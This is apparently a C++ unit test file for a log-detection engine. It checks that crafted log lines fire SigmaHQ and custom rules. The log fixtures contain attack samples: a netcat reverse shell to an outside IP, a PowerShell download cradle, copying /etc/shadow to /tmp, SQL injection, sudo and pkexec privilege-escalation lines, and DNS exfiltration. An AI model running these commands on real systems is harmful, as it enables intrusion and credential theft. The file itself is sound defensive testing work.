// Log lines through the decoders, the built-in pipelines and the SigmaHQ rules: the field
// names and logsources the decoders set must make the rules written for those logs fire
// without any custom mapping. Skips when ../shared/data is absent.

#include <filesystem>
#include <map>
#include <set>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "base/audit_record.h"
#include "base/strings.h"
#include "detect/engine.h"
#include "detect/pipeline.h"
#include "parse/decode.h"

namespace vigil {
namespace {

namespace fs = std::filesystem;

const fs::path kSigma = fs::path(VIGIL_SHARED_DATA) / "sigma";
const char* kRulePaths[] = {
    "rules/linux",
    "rules/web",
    "rules/network",
    "rules/windows/process_creation",
    "rules/windows/builtin/security",
    "rules/windows/powershell/powershell_classic",
    "rules-emerging-threats/2019/Exploits/CVE-2019-14287",
    "rules-emerging-threats/2021/Exploits/CVE-2021-4034",
    "rules-emerging-threats/2023/Exploits/CVE-2023-20198",
};

struct Loaded {
    std::unique_ptr<detect::Engine> engine;
    detect::Pipeline pipeline;
    config::Diagnostics diags;
};

Loaded& Rules() {
    static Loaded* loaded = [] {
        auto* l = new Loaded;
        l->engine = std::make_unique<detect::Engine>();
        for (const char* d : kRulePaths)
            EXPECT_TRUE(l->engine->LoadPath((kSigma / d).string(), l->diags)) << d;
        // Vigil's own rules: the SSH brute-force correlation.
        EXPECT_TRUE(l->engine->LoadPath(std::string(VIGIL_SOURCE_DIR) + "/rules/linux", l->diags));
        EXPECT_TRUE(l->engine->Compile(l->diags));
        for (const auto& [name, yaml] : detect::BuiltinPipelines())
            EXPECT_TRUE(l->pipeline.LoadString(yaml, name, l->diags));
        return l;
    }();
    return *loaded;
}

// Decodes the lines as `vigil hunt --decoder auto` does (auditd records grouped), maps and
// matches them; returns the ids and names of the rules that fired.
std::multiset<std::string> Fire(const std::vector<std::string>& lines,
                                std::vector<event::Event>* events = nullptr) {
    Loaded& r = Rules();
    parse::LineDecoder decoder({.now_ns = *ParseTimestamp("2026-11-20T12:00:00Z")});
    parse::AuditdAssembler auditd(decoder);
    std::vector<event::Event> decoded;
    for (const auto& line : lines) {
        if (!FindAuditRecord(line).empty()) {  // as vigil hunt groups them
            EXPECT_TRUE(auditd.Add(line, decoded)) << line;
            continue;
        }
        event::Event ev;
        auto st = decoder.Decode(line, parse::Format::kAuto, ev);
        EXPECT_TRUE(st) << line << ": " << (st ? "" : st.error().message);
        decoded.push_back(std::move(ev));
    }
    auditd.Flush(decoded);
    detect::Matcher matcher(*r.engine);
    std::multiset<std::string> fired;
    for (size_t i = 0; i < decoded.size(); ++i) {
        event::Event& ev = decoded[i];
        ev.sequence = i;
        r.pipeline.Apply(ev);
        std::vector<detect::Match> matches;
        matcher.Match(ev, matches);
        for (const auto& m : matches) {
            fired.insert(r.engine->rule(m.rule).meta.id);
            if (!r.engine->rule(m.rule).meta.name.empty())
                fired.insert(r.engine->rule(m.rule).meta.name);
        }
    }
    if (events) *events = std::move(decoded);
    return fired;
}

class DecoderSigma : public ::testing::Test {
protected:
    void SetUp() override {
        if (!fs::exists(kSigma)) GTEST_SKIP() << "shared data not found at " << kSigma;
    }
};

TEST_F(DecoderSigma, WebSqlInjectionInAccessLog) {
    auto fired =
        Fire({"198.51.100.23 - - [20/Nov/2026:03:01:11 +0800] \"GET "
              "/products.php?id=1%20UNION%20SELECT%20user,pass%20FROM%20accounts "
              "HTTP/1.1\" 200 5120 \"-\" \"sqlmap/1.8\""});
    EXPECT_TRUE(fired.count("5513deaf-f49a-46c2-a6c8-3f111b5cb453"));  // SQL injection strings
}

TEST_F(DecoderSigma, WebRulesSeeTheStatus) {
    // The SQL injection rule leaves out 404s: sc-status must be a field.
    auto fired =
        Fire({"198.51.100.23 - - [20/Nov/2026:03:01:12 +0800] \"GET "
              "/x.php?id=1%20UNION%20SELECT%20a HTTP/1.1\" 404 10 \"-\" \"curl/8\""});
    EXPECT_FALSE(fired.count("5513deaf-f49a-46c2-a6c8-3f111b5cb453"));
}

TEST_F(DecoderSigma, SshBruteForceCorrelation) {
    std::vector<std::string> lines;
    for (int i = 0; i < 6; ++i)
        lines.push_back("Nov 20 02:14:0" + std::to_string(i) + " bank-web-01 sshd[42" +
                        std::to_string(i) + "]: Failed password for root from 203.0.113.45 port " +
                        std::to_string(52000 + i) + " ssh2");
    std::vector<event::Event> events;
    auto fired = Fire(lines, &events);
    EXPECT_EQ(fired.count("vigil_ssh_auth_failure"), 6u);
    detect::CorrelationEngine corr = Rules().engine->NewCorrelationState();
    std::vector<detect::CorrelationHit> hits;
    detect::Matcher matcher(*Rules().engine);
    for (const auto& ev : events) {
        std::vector<detect::Match> matches;
        matcher.Match(ev, matches);
        for (const auto& m : matches) {
            const auto& meta = Rules().engine->rule(m.rule).meta;
            corr.OnMatch(meta.id, meta.name, ev, hits);
        }
    }
    ASSERT_EQ(hits.size(), 1u);
    EXPECT_EQ(hits[0].rule->meta.id, "0b6f8e2d-4a3c-4f1e-9d7b-5c2e8a1f3b02");
    ASSERT_EQ(hits[0].group.size(), 1u);
    EXPECT_EQ(hits[0].group[0].second, "203.0.113.45");
}

TEST_F(DecoderSigma, SshdSuspiciousError) {
    auto fired =
        Fire({"Nov 20 02:20:00 bank-web-01 sshd[999]: fatal: ssh_dispatch_run_fatal: "
              "Connection from 203.0.113.45 port 2222: Corrupted MAC on input."});
    EXPECT_TRUE(fired.count("e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"));
}

TEST_F(DecoderSigma, SudoAndPrivilegeRules) {
    // CVE-2019-14287: sudo -u#-1
    EXPECT_TRUE(Fire({"Nov 20 09:40:00 app-01 sudo:   mallory : TTY=pts/3 ; PWD=/home/mallory ; "
                      "USER=#-1 ; COMMAND=/usr/bin/id"})
                    .count("7fcc54cb-f27d-4684-84b7-436af096f858"));
    // PwnKit, in the auth log written by pkexec.
    EXPECT_TRUE(Fire({"Nov 20 09:41:00 app-01 pkexec[5150]: mallory: The value for environment "
                      "variable XAUTHORITY contains suspicious content [USER=root] "
                      "[TTY=/dev/pts/0] [CWD=/home/mallory] [COMMAND=GCONV_PATH=./x]"})
                    .count("0506a799-698b-43b4-85a1-ac4c84c720e9"));
    // A new user with UID 0.
    EXPECT_TRUE(Fire({"Nov 20 09:42:00 app-01 useradd[5200]: new user: name=support2, UID=0, "
                      "GID=0, home=/root, shell=/bin/bash, from=/dev/pts/3"})
                    .count("0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"));
}

TEST_F(DecoderSigma, AuditdRecordsFireAuditdAndProcessCreationRules) {
    const std::string t = "msg=audit(1795000000.120:901): ";
    auto fired = Fire({
        "type=SYSCALL " + t +
            "arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=700 "
            "pid=701 auid=1000 uid=0 euid=0 comm=\"cp\" exe=\"/usr/bin/cp\" key=\"exec\"",
        "type=EXECVE " + t + "argc=3 a0=\"cp\" a1=\"/etc/shadow\" a2=\"/tmp/s\"",
        "type=CWD " + t + "cwd=\"/root\"",
        "type=PATH " + t + "item=0 name=\"/usr/bin/cp\" nametype=NORMAL",
        "type=PROCTITLE " + t + "proctitle=6370002F6574632F736861646F77002F746D702F73",
        "type=EOE " + t,
        // chmod 777, the arguments hex-encoded as auditd writes them with a space inside.
        "type=SYSCALL msg=audit(1795000001.000:902): arch=c000003e syscall=59 success=yes "
        "exit=0 ppid=700 pid=702 uid=0 comm=\"chmod\" exe=\"/usr/bin/chmod\"",
        "type=EXECVE msg=audit(1795000001.000:902): argc=3 a0=\"chmod\" a1=\"777\" "
        "a2=2F746D702F6120646972",
        "type=EOE msg=audit(1795000001.000:902):",
        // A PATH record naming /etc/ld.so.preload.
        "type=SYSCALL msg=audit(1795000002.000:903): arch=c000003e syscall=257 success=yes "
        "exit=3 pid=703 comm=\"tee\" exe=\"/usr/bin/tee\"",
        "type=PATH msg=audit(1795000002.000:903): item=0 name=\"/etc/ld.so.preload\" "
        "nametype=CREATE",
        "type=EOE msg=audit(1795000002.000:903):",
    });
    EXPECT_TRUE(fired.count("fa4aaed5-4fe0-498d-bbc0-08e3346387ba"));  // cp passwd/shadow to /tmp
    EXPECT_TRUE(fired.count("1543ae20-cbdf-4ec1-8d12-7664d667a825"));  // chmod 777 (auditd)
    // ld.so.preload modification
    bool preload = false;
    for (uint32_t i = 0; i < Rules().engine->rule_count(); ++i)
        if (Rules().engine->rule(i).meta.title.find("ld.so.preload") != std::string::npos &&
            fired.count(Rules().engine->rule(i).meta.id))
            preload = true;
    EXPECT_TRUE(preload);
}

// Sysmon for Linux sends Windows' Sysmon XML through syslog (tag "sysmon"): SigmaHQ's linux
// process_creation, network_connection and file_event rules are written for it.
TEST_F(DecoderSigma, SysmonForLinuxThroughSyslog) {
    const auto sysmon = [](int id, const std::string& data) {
        return "<14>Nov 20 03:30:01 srv01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "
               "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>" +
               std::to_string(id) +
               "</EventID><Version>5</Version><TimeCreated "
               "SystemTime=\"2026-11-20T03:30:01.123456000Z\"/><EventRecordID>77</EventRecordID>"
               "<Channel>Linux-Sysmon/Operational</Channel><Computer>srv01</Computer><Security "
               "UserId=\"0\"/></System><EventData>" +
               data + "</EventData></Event>";
    };
    std::vector<event::Event> events;
    auto fired =
        Fire({sysmon(1,
                     "<Data Name=\"ProcessId\">4242</Data><Data Name=\"Image\">/usr/bin/ncat</Data>"
                     "<Data Name=\"CommandLine\">ncat -e /bin/bash 198.51.100.9 4444</Data><Data "
                     "Name=\"CurrentDirectory\">/tmp</Data><Data Name=\"User\">root</Data><Data "
                     "Name=\"ParentImage\">/usr/bin/bash</Data><Data "
                     "Name=\"ParentCommandLine\">bash</Data>")},
             &events);
    ASSERT_EQ(events.size(), 1u);
    EXPECT_EQ(events[0].logsource.product, "linux");
    EXPECT_TRUE(events[0].logsource.HasCategory("process_creation"));
    EXPECT_EQ(events[0].Get("Image"), "/usr/bin/ncat");
    EXPECT_EQ(events[0].Get("host"), "srv01");
    EXPECT_EQ(FormatTimestamp(events[0].time_ns), "2026-11-20T03:30:01.123Z");
    EXPECT_TRUE(fired.count("7f734ed0-4f47-46c0-837f-6ee62505abd9"));  // netcat reverse shell
    // A file created: file_event; XML that is not an event stays a syslog line.
    Fire({sysmon(11,
                 "<Data Name=\"Image\">/usr/bin/curl</Data><Data "
                 "Name=\"TargetFilename\">/etc/cron.d/job</Data>"),
          "<14>Nov 20 03:30:02 srv01 sysmon: <Event><System>"},
         &events);
    ASSERT_EQ(events.size(), 2u);
    EXPECT_TRUE(events[0].logsource.HasCategory("file_event"));
    EXPECT_EQ(events[0].Get("TargetFilename"), "/etc/cron.d/job");
    EXPECT_EQ(events[1].logsource.product, "linux");
    EXPECT_EQ(events[1].logsource.service, "syslog");
}

TEST_F(DecoderSigma, FirewallDnsAndProxy) {
    // Telnet let through: net_firewall_cleartext_protocols.
    EXPECT_TRUE(Fire({"Nov 20 04:00:00 gw kernel: [ 99.1] FW-ACCEPT IN=eth0 OUT=eth1 "
                      "SRC=203.0.113.9 DST=10.0.0.20 LEN=60 TTL=52 PROTO=TCP SPT=51234 DPT=23 "
                      "SYN"})
                    .count("d7fb8f0e-bd5f-45c2-b467-19571c490d7e"));
    // Base64 in a DNS query seen by Suricata.
    EXPECT_TRUE(
        Fire(
            {R"({"timestamp":"2026-11-20T05:21:00+0000","event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","dns":{"type":"query","rrname":"aGVsbG8gd29ybGQ==.exfil.example","rrtype":"TXT"}})"})
            .count("4153a907-2451-4e4f-a578-c52bb6881432"));
    // A command in a TXT answer, in EVE version 3's shape, behind an answer that is not one.
    EXPECT_TRUE(
        Fire(
            {R"j({"event_type":"dns","src_ip":"10.0.0.53","dest_ip":"10.0.0.5","dns":{"version":3,"type":"response","queries":[{"rrname":"stage.example","rrtype":"TXT"}],"answers":[{"rrname":"stage.example","rrtype":"TXT","rdata":"v=spf1 -all"},{"rrname":"stage.example","rrtype":"TXT","rdata":"powershell IEX (New-Object Net.WebClient)"}]}})j"})
            .count("8ae51330-899c-4641-8125-e39f2e07da72"));
    // WebDAV download cradle in Suricata's HTTP log.
    EXPECT_TRUE(
        Fire(
            {R"({"event_type":"http","src_ip":"10.0.0.5","dest_ip":"192.0.2.80","http":{"hostname":"files.example","url":"/payload.ps1","http_user_agent":"Microsoft-WebDAV-MiniRedir/10.0.19045","http_method":"GET","status":200}})"})
            .count("e09aed7a-09e0-4c9a-90dd-f0d52507347e"));
}

TEST_F(DecoderSigma, NetworkDevicesThroughSyslog) {
    // A router's command log (`archive / log config / notify syslog`): Cisco Disabling Logging.
    EXPECT_TRUE(Fire({"<189>77: Nov 20 10:01:02.001 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: "
                      "User:netops  logged command:no logging host 192.0.2.50"})
                    .count("9e8f6035-88bf-4a63-96b6-b17c0508257e"));
    // The same from an ASA: Cisco Clear Logs.
    EXPECT_TRUE(Fire({"<165>%ASA-5-111010: User 'admin', running 'CLI' from IP 10.1.1.1, "
                      "executed 'clear logging buffer'"})
                    .count("ceb407f6-8277-439b-951f-e4210e3ed956"));
    // TCP-MD5 failures on BGP's port: Cisco, Huawei and Juniper.
    EXPECT_TRUE(Fire({"<187>88: Nov 20 10:01:02 UTC: %IP-TCP-3-BADAUTH: Invalid MD5 digest from "
                      "192.0.2.1:179 to 192.0.2.2:11003"})
                    .count("56fa3cd6-f8d6-4520-a8c7-607292971886"));
    EXPECT_TRUE(Fire({"<187>Nov 20 2026 10:01:02 PE-1 %%01BGP/3/BGP_AUTH_FAILED(l)[5]:BGP "
                      "session authentication failed. (PeerAddress=192.0.2.1:179)"})
                    .count("a557ffe6-ac54-43d2-ae69-158027082350"));
    EXPECT_TRUE(Fire({"<28>Nov 20 10:01:02 mx-1 /kernel: tcp_auth_ok: Packet from "
                      "192.0.2.1:179 missing MD5 digest"})
                    .count("a7c0ae48-8df8-42bf-91bd-2ea57e2f9d43"));
    // IOS XE's web UI implant (CVE-2023-20198): a web login by the account it creates.
    EXPECT_TRUE(Fire({"<189>1 2026-11-20T10:01:02.123Z rtr-1 - - - - "
                      "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_tac_admin] "
                      "[Source: 198.51.100.4] [localport: 443] at 10:01:02 UTC Fri Nov 20 2026"})
                    .count("2ece8816-b7a0-4d9b-b0e8-ae7ad18bc02b"));
    // Telnet let through an ASA: Cleartext Protocol Usage (category firewall).
    EXPECT_TRUE(Fire({"<166>%ASA-6-302013: Built inbound TCP connection 9 for "
                      "outside:203.0.113.9/51234 (203.0.113.9/51234) to inside:10.0.0.5/23 "
                      "(198.51.100.5/23)"})
                    .count("d7fb8f0e-bd5f-45c2-b467-19571c490d7e"));
    // A router's interface going down fires none of them.
    EXPECT_TRUE(Fire({"<189>52: *Mar  1 00:01:36.619: %LINK-3-UPDOWN: Interface "
                      "GigabitEthernet0/1, changed state to down"})
                    .empty());
}

TEST_F(DecoderSigma, WindowsJsonShapes) {
    // NXLog, Security 4688: the windows pipeline makes it process_creation with Image.
    EXPECT_TRUE(
        Fire(
            {R"({"EventTime":"2026-11-20 06:00:01","Hostname":"WS-07","EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"whoami /all"})"})
            .count("c248c896-e412-4279-8c15-1c558067b6fa"));
    // Winlogbeat, Security 4625 with an unusual failure status.
    EXPECT_TRUE(
        Fire(
            {R"({"@timestamp":"2026-11-20T06:00:00.000Z","winlog":{"channel":"Security","event_id":4625,"provider_name":"Microsoft-Windows-Security-Auditing","event_data":{"TargetUserName":"svc_old","Status":"0xc0000072","SubStatus":"0xc0000072","SubjectUserSid":"S-1-5-18","IpAddress":"203.0.113.77"}}})"})
            .count("9eb99343-d336-4020-a3cd-67f3819e68ee"));
    // Classic PowerShell 400 (engine started as version 2) in all three shapes: the details
    // are evtx's Data, Winlogbeat's param3, NXLog's Message.
    for (
        const char* line : {
            R"j({"Event":{"System":{"Channel":"Windows PowerShell","EventID":400},"EventData":{"Data":["Available","None","\tNewEngineState=Available\n\tHostVersion=5.1\n\tHostApplication=powershell.exe -version 2 -c whoami\n\tEngineVersion=2.0\n"]}}})j",
            R"j({"@timestamp":"2026-11-20T02:14:07.000Z","winlog":{"channel":"Windows PowerShell","event_id":400,"provider_name":"PowerShell","event_data":{"param1":"Available","param2":"None","param3":"\tNewEngineState=Available\n\tHostApplication=powershell.exe -version 2 -c whoami\n\tEngineVersion=2.0\n"}}})j",
            R"j({"EventTime":"2026-11-20 02:14:08","Hostname":"WS02","EventID":400,"SourceName":"PowerShell","Channel":"Windows PowerShell","Message":"Engine state is changed from None to Available.\n\nDetails:\n\tHostApplication=powershell.exe -version 2 -c whoami\n\tEngineVersion=2.0\n"})j",
        }) {
        EXPECT_TRUE(Fire({line}).count("6331d09b-4785-4c13-980f-f96661356249")) << line;
    }
}

}  // namespace
}  // namespace vigil
